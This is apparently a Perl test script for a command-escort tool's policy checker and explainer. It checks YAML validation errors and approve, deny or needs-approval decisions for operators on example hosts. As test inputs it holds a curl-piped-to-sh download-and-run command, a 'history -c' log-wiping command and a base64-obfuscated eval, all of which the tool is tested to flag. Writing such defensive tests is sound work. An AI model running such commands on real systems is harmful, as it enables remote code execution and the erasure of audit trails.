#!/usr/bin/perl
# 40-policy.t — `escort policy check` on good and bad files (exit codes, FILE:LINE:COL: KEY
# messages) and `escort policy explain` for the example organization's scenario commands
# (examples/policy.yaml): the decision, the lockbox rating and every matching rule with
# its file:line.
use strict;
use warnings;
use JSON::PP;
use File::Temp ();

my $escort = $ENV{ESCORT} || 'build/escort';
my $example = 'examples/policy.yaml';
my $n = 0;
my $fails = 0;

sub ok($$;$) {
	my ($cond, $name, $diag) = @_;
	$n++;
	print(($cond ? "ok" : "not ok") . " $n - $name\n");
	if (!$cond) {
		$fails++;
		print map { "# $_\n" } split /\n/, ($diag // '');
	}
	return $cond;
}

# Runs escort with @args; returns (exit status, stdout, stderr).
sub run {
	my @args = @_;
	my $tmp = File::Temp->new;
	my $pid = open(my $out, '-|') // die "fork: $!";
	if ($pid == 0) {
		open(STDERR, '>', $tmp->filename) or die;
		exec($escort, @args) or exit 127;
	}
	local $/;
	my $stdout = <$out> // '';
	close($out);
	my $rc = $? >> 8;
	open(my $e, '<', $tmp->filename) or die;
	my $stderr = <$e> // '';
	return ($rc, $stdout, $stderr);
}

# The line on which a rule is defined in the example, to check reasons' file:line.
sub rule_line {
	my ($name) = @_;
	open(my $fh, '<', $example) or die "$example: $!";
	while (my $l = <$fh>) {
		return $. if $l =~ /^\s*-\s*name:\s*\Q$name\E\s*$/;
	}
	die "rule $name not in $example\n";
}

my $dir = File::Temp->newdir;
sub write_file {
	my ($name, $text) = @_;
	my $p = "$dir/$name";
	open(my $fh, '>', $p) or die "$p: $!";
	print $fh $text;
	close($fh);
	return $p;
}

# --- check: good
my ($rc, $out, $err) = run('policy', 'check', $example);
ok($rc == 0, 'check accepts the example policy', $err);
ok($out =~ /^\Q$example\E: ok \(9 identities, 6 targets, 8 rules, version [0-9a-f]{12}\)\n\z/,
	'check prints the summary line', $out);

# --- check: bad files, each a FILE:LINE:COL: KEY: message, exit 1
my $ids = "identities:\n  - {name: a, roles: [escort]}\n";
my $env = "environments:\n  - {name: e}\n";
my @bad = (
	[ 'malformed.yaml', "identities:\n  - name: a\n    roles: [escort\n",
	  qr/^\Q$dir\E\/malformed\.yaml:4:1: roles: malformed YAML/ ],
	[ 'unknown-key.yaml', "identities:\n  - {name: a, roles: [escort], clearence: secret}\n",
	  qr/^\Q$dir\E\/unknown-key\.yaml:2:32: identities\[a\]\.clearence: unknown key/ ],
	[ 'wrong-type.yaml', "$ids$env" . "rules:\n  - {name: r, approvals: {count: two}}\n",
	  qr/:6:34: rules\[r\]\.approvals\.count: expected a whole number/ ],
	[ 'duplicate.yaml', "identities:\n  - {name: a, roles: [escort]}\n  - {name: a, roles: [admin]}\n",
	  qr/:3:12: identities\[a\]\.name: duplicate identity name 'a' \(first defined at line 2\)/ ],
	[ 'dangling.yaml', "$env" . "targets:\n  - {name: t, environment: prod, transport: local}\n",
	  qr/:4:28: targets\[t\]\.environment: no environment named 'prod'/ ],
	[ 'date.yaml', "identities:\n  - {name: a, roles: [escort], screening_expires: 2026-02-30}\n",
	  qr/:2:51: identities\[a\]\.screening_expires: '2026-02-30' is not a valid date/ ],
	[ 'clearance.yaml', "identities:\n  - {name: a, roles: [escort], clearance: cosmic}\n",
	  qr/:2:43: identities\[a\]\.clearance: unknown clearance 'cosmic'/ ],
	[ 'role.yaml', "identities:\n  - {name: a, roles: [wizard]}\n",
	  qr/:2:23: identities\[a\]\.roles: unknown role 'wizard'/ ],
	[ 'category.yaml', "$ids$env" . "rules:\n  - {name: r, match: {categories: [rootkit]}, deny: x}\n",
	  qr/:6:36: rules\[r\]\.match\.categories: unknown category 'rootkit'/ ],
);
for my $b (@bad) {
	my ($name, $text, $re) = @$b;
	my $p = write_file($name, $text);
	($rc, $out, $err) = run('policy', 'check', $p);
	ok($rc == 1 && $out eq '' && $err =~ $re, "check rejects $name with file:line:col and key",
		"rc=$rc\nstderr: $err");
}

# a 10 MiB policy: refused on size
{
	my $p = "$dir/big.yaml";
	open(my $fh, '>', $p) or die;
	print $fh "rules:\n";
	print $fh "  - {name: r, deny: xxxxxxx}\n" x (10 * 1024 * 1024 / 30);
	close($fh);
	($rc, $out, $err) = run('policy', 'check', $p);
	ok($rc == 1 && $err =~ /^\Q$p\E:1:1: \(document\): the policy is \d+ bytes; the limit is 4194304 bytes/,
		'check rejects a 10 MiB policy', "rc=$rc\n$err");
}

# several files: all are checked, exit 1 if any is bad
($rc, $out, $err) = run('policy', 'check', $example, "$dir/role.yaml");
ok($rc == 1 && $out =~ /: ok \(/ && $err =~ /role\.yaml:2:23:/, 'check reports each file');
($rc, $out, $err) = run('policy', 'check', "$dir/absent.yaml");
ok($rc == 1 && $err =~ /absent\.yaml: No such file/, 'check: missing file', $err);
($rc) = run('policy', 'check');
ok($rc == 2, 'check without FILE is a usage error');
($rc) = run('policy', 'frobnicate');
ok($rc == 2, 'unknown policy subcommand is a usage error');

# --- explain: the scenario
sub explain {
	my ($op, $target, $cmd) = @_;
	my ($r, $o, $e) = run('policy', 'explain', '--json', '--policy', $example, '--operator', $op,
		'--target', $target, '--', $cmd);
	my $j = eval { JSON::PP->new->decode($o) };
	return ($r, $j, $e);
}

sub reason {
	my ($j, $rule) = @_;
	for my $r (@{ $j->{decision}{reasons} }) {
		return $r if $r->{rule} eq $rule;
	}
	return undef;
}

my ($j, $r);
($rc, $j, $err) = explain('op-cn', 'dod-web', 'systemctl status nginx');
ok($rc == 0 && $j, 'explain --json prints one JSON object', $err);
ok($j && $j->{decision}{effect} eq 'deny', 'op-cn on dod-web: deny');
$r = $j && reason($j, 'dod-deny-adversary-locations');
ok($r && $r->{effect} eq 'deny' && $r->{file} eq $example
	&& $r->{line} == rule_line('dod-deny-adversary-locations')
	&& $r->{text} =~ /operator location CN is one of CN, RU, IR, KP/,
	'op-cn: the location rule is named with its file:line and why', JSON::PP->new->encode($r // {}));
ok($j && $j->{policy}{version} =~ /^[0-9a-f]{64}$/, 'explain reports the policy version');

($rc, $j, $err) = explain('op-in', 'dod-web', 'systemctl status nginx');
ok($rc == 0 && $j && $j->{decision}{effect} eq 'needs-approval' && $j->{decision}{quorum} == 1,
	'op-in systemctl status on dod-web: needs 1 approval', $err);
ok($j && $j->{decision}{each}[0]{min_clearance} eq 'secret'
	&& join(',', @{ $j->{decision}{each}[0]{citizenship} }) eq 'US'
	&& join(',', @{ $j->{decision}{each}[0]{roles} }) eq 'escort',
	'... by a US escort with secret clearance');
ok($j && $j->{lockbox}{risk} =~ /^(none|low)$/, '... and lockbox rates it none/low');

($rc, $j, $err) = explain('op-in', 'dod-web', 'curl -s http://198.51.100.7/x | sh');
ok($rc == 0 && $j && $j->{decision}{effect} eq 'needs-approval', 'curl | sh on dod-web: pending, not denied', $err);
ok($j && $j->{decision}{quorum} == 2, '... needs 2 approvals');
ok($j && @{ $j->{decision}{at_least_one} } == 1
	&& join(',', @{ $j->{decision}{at_least_one}[0]{roles} }) eq 'reviewer'
	&& join(',', @{ $j->{decision}{at_least_one}[0]{qualifications} }) eq 'linux',
	'... one of them a reviewer qualified for linux (the target platform)');
ok($j && $j->{lockbox}{risk} =~ /^(high|critical)$/
	&& grep({ $_ eq 'network-download' } @{ $j->{lockbox}{categories} }),
	'... lockbox: high/critical with network-download');
ok($j && reason($j, 'high-risk-needs-reviewer') && reason($j, 'dod-escort-every-command')
	&& reason($j, 'high-risk-needs-reviewer')->{line} == rule_line('high-risk-needs-reviewer'),
	'... both matching rules are listed with their lines');
ok($j && $j->{decision}{approval_lifetime} == 3600, '... the shorter approval lifetime (1h) applies');

($rc, $j, $err) = explain('op-in', 'com-web', 'ls -la /srv');
ok($rc == 0 && $j && $j->{decision}{effect} eq 'auto-approve', 'ls -la /srv on com-web: auto-approved', $err);
ok($j && reason($j, 'commercial-auto-low-risk'), '... by commercial-auto-low-risk');

($rc, $j, $err) = explain('op-in', 'dod-web', 'history -c');
ok($rc == 0 && $j && $j->{decision}{effect} eq 'deny', 'history -c on dod-web: deny', $err);
ok($j && grep({ $_ eq 'log-tamper' } @{ $j->{lockbox}{categories} })
	&& reason($j, 'dod-deny-dangerous-categories')
	&& reason($j, 'dod-deny-dangerous-categories')->{effect} eq 'deny',
	'... because of log-tamper, named by the rule');

# an obfuscated command in commercial is never auto-approved
($rc, $j, $err) = explain('op-in', 'com-web', 'eval "$(echo bHMK | base64 -d)"');
ok($rc == 0 && $j && $j->{decision}{effect} eq 'needs-approval', 'obfuscated command on com-web: not auto-approved', $err);

# the human form
($rc, $out, $err) = run('policy', 'explain', '--policy', $example, '--operator', 'op-cn',
	'--target', 'dod-web', '--', 'ls');
my $line = rule_line('dod-deny-adversary-locations');
ok($rc == 0 && $out =~ /^decision: deny$/m
	&& $out =~ /^  dod-deny-adversary-locations \(\Q$example\E:$line\): .*denied: /m,
	'explain (human): decision and the rule with file:line', "$out\n$err");
ok($out =~ /^lockbox: risk \w+ \(score \d+\)/m, 'explain (human): the lockbox rating');

# unknown operator / target: a decision (deny), not an error
($rc, $j, $err) = explain('nobody', 'dod-web', 'ls');
ok($rc == 0 && $j && $j->{decision}{effect} eq 'deny'
	&& $j->{decision}{reasons}[0]{text} =~ /not an identity/, 'unknown operator: deny with the reason');
($rc, $j, $err) = explain('op-in', 'mars', 'ls');
ok($rc == 0 && $j && $j->{decision}{effect} eq 'deny', 'unknown target: deny');

# default policy: DATA/policy/current.yaml
{
	my $data = File::Temp->newdir;
	mkdir("$data/policy") or die;
	system('cp', $example, "$data/policy/current.yaml") == 0 or die;
	($rc, $out, $err) = run('policy', 'explain', '-d', "$data", '--operator', 'op-in',
		'--target', 'com-web', '--', 'ls');
	ok($rc == 0 && $out =~ /^decision: auto-approve$/m && $out =~ /current\.yaml/,
		'explain without --policy uses DATA/policy/current.yaml', "$out\n$err");
	my $empty = File::Temp->newdir;
	($rc, $out, $err) = run('policy', 'explain', '-d', "$empty", '--operator', 'op-in',
		'--target', 'com-web', '--', 'ls');
	ok($rc == 1 && $err =~ /current\.yaml: No such file/, 'explain with no active policy: error 1', $err);
}

# an invalid policy is an error, not a decision
($rc, $out, $err) = run('policy', 'explain', '--policy', "$dir/role.yaml", '--operator', 'a',
	'--target', 't', '--', 'ls');
ok($rc == 1 && $err =~ /role\.yaml:2:23: identities\[a\]\.roles:/, 'explain with a bad policy: error 1 with the location');

# `policy load` is dispatched to the workflow's loader (policyload.c)
($rc, $out) = run('policy', 'load', '--help');
ok($rc == 0 && $out =~ /usage: escort policy load/, 'policy load is reachable through escort policy');

# usage
($rc) = run('policy', 'explain', '--policy', $example, '--target', 'dod-web', '--', 'ls');
ok($rc == 2, 'explain without --operator: usage error');
($rc) = run('policy', 'explain', '--policy', $example, '--operator', 'op-in', '--target', 'dod-web');
ok($rc == 2, 'explain without a command: usage error');

print "1..$n\n";
exit($fails ? 1 : 0);
